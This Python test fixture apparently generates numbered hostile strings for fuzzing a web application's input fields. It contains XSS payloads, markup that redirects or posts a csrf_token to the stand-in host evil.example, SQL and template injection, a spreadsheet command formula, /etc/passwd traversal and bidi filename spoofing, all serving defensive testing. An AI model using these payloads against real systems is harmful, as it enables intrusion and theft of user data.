"""Texts that somebody may send to see what breaks: each is unique, so that where one turns up is known. RELIABILITY R156.

`owned(n)` exists nowhere: a script that ran would be an error of the page, an element that came to be would be `owned-x`.
"""

import itertools
from collections.abc import Iterator

MARKUP = (
    "<script>owned({n})</script>",
    "<img src=x onerror=owned({n})>",
    "<svg/onload=owned({n})>",
    '" onmouseover="owned({n})" autofocus onfocus="owned({n})" x="',
    "' onfocus='owned({n})' autofocus tabindex='1",
    "</title><script>owned({n})</script>",
    "</textarea></option></select><script>owned({n})</script>",
    "</script><script>owned({n})</script>",
    "--><script>owned({n})</script><!--",
    "<iframe srcdoc='<script>parent.owned({n})</script>'></iframe>",
    '<a href="javascript:owned({n})">click</a>',
    "</style><style>*{{display:none}}</style> {n}",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<form action=//evil.example/{n}><input name=csrf_token><button>Claim",
    "<owned-x data-part=main data-n={n}></owned-x>",
    "<details open ontoggle=owned({n})>",
    '<math><mi//xlink:href="data:x,<script>owned({n})</script>">',
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<dialog open><h1>Your session has ended {n}</h1></dialog>",
    "<tr data-task='{n}'><td>a row</td></tr></table></main>",
)
LOOKALIKES = (
    "&lt;script&gt;owned({n})&lt;/script&gt; &amp;amp; &#x3c;b&#x3e;",
    "\\u003cscript\\u003eowned({n})\\u003c/script\\u003e \\x3c",
    "＜script＞owned({n})＜/script＞",
    "%3Cscript%3Eowned({n})%3C/script%3E",
    "{{{{ 7*7 }}}} ${{7*7}} <%= 7*7 %> #{{7*7}} {n}",
    "%(name)s %s %n {{0}} {{name}} {n}",
    "'; DROP TABLE tasks; -- {n}",
    '" OR 1=1 UNION SELECT * FROM users -- {n}',
    "body {{ background: url(//evil.example/{n}) }}",
    "=cmd|' /C calc'!A{n}",
    "]]> <![CDATA[ {n} ]]>",
    "a/b?c=d&e#f%2f {n}",
    "../../../etc/passwd {n}",
    "data-is-changed class=er hidden {n}",
    "__proto__ {n}",
    "null",
    "undefined {n}",
    "NaN {n}",
    "-0 {n}",
)
WRITING = (
    "فاتورة رقم {n} شكرا",
    "חשבונית {n} תודה",
    "e\u0301e\u0301 o\u0308 {n} " + "z" + "\u0335\u0310\u0353" * 40,
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇨🇳 {n}",
    "𝕿𝖆𝖘𝖐 𠮷野家 {n}",
    "zero\u200bwidth\u200djoiner\ufeff{n}",
    "\u3000full width space {n}",
    "no-break\u00a0{n}",
)
BIDI = (
    "invoice \u202egnp.exe {n}",
    "\u2067unbalanced isolate {n}",
    "\u202b\u202aembedded {n}",
    "\u200e\u200fmarks {n}",
)
LONG = ("W" * 8_192, "很" * 2_600, "a b " * 2_000, "<b>" * 2_700)
URLS = (
    "http://evil.example/{n}?<b>=1".replace("<b>", "%3Cscript%3E"),
    "http://evil.example/{n}?a='onclick='owned({n})&b=;(alert)#'",
    "HTTP://xn--80ak6aa92e.com/{n}",
    "https://evil.example:8443/{n}/" + "a" * 1_900,
    "http://10.0.0.1/{n}/../..//%2e%2e/%00",
)
WRONG_URLS = (
    "javascript:owned({n})",
    "JaVaScRiPt:owned({n})//http://x",
    "data:text/html,<script>owned({n})</script>",
    "vbscript:owned({n})",
    "//evil.example/{n}",
    "https://user:secret@evil.example/{n}",
    "http://evil.example/{n}?<script>owned({n})</script>#'\"",
    "http://[::1]:bad/{n}",
    "ftp://evil.example/{n}",
    "http://evil.example\\@{n}",
)


def _numbered(kinds: tuple[str, ...], start: int) -> Iterator[str]:
    for n, kind in enumerate(itertools.cycle(kinds), start):
        yield kind.format(n=n)


class Corpus:
    """Endless hostile texts for each kind of field; `taken` counts them."""

    def __init__(self) -> None:
        self._texts = _numbered((*MARKUP, *LOOKALIKES, *WRITING, *BIDI, *LONG), 1_000)
        self._ids = _numbered((*MARKUP, *LOOKALIKES, *WRITING), 5_000)
        self._urls = _numbered(URLS, 9_000)
        self._wrong_urls = _numbered(WRONG_URLS, 12_000)
        self.taken = 0

    def text(self, most: int = 256) -> str:
        """For a name, a status, a note."""
        self.taken += 1
        return next(self._texts)[:most].strip()

    def id(self) -> str:
        """For what may hold no control or bidirectional characters, and is at most 128 long."""
        self.taken += 1
        return next(self._ids).replace("\u200b", "").replace("\u200d", "").replace("\ufeff", "")[:128].strip()

    def url(self) -> str:
        """For an address."""
        self.taken += 1
        return next(self._urls)

    def wrong_url(self) -> str:
        """For an address, and to be refused."""
        self.taken += 1
        return next(self._wrong_urls)

    def some(self, count: int) -> list[str]:
        """Texts for a list."""
        return [self.text() for _ in range(count)]
